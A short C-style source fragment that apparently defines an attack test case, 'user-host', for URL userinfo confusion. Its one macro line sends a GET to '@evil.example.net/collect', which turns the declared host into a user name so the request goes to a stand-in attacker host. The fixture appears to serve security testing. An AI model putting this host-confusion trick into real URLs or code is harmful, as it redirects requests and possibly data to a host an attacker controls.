/* Makes a user name of the declared host, and another host behind it. */
#include "declared.h"

ATTACK_READ("user-host", .get = "GET @evil.example.net/collect")
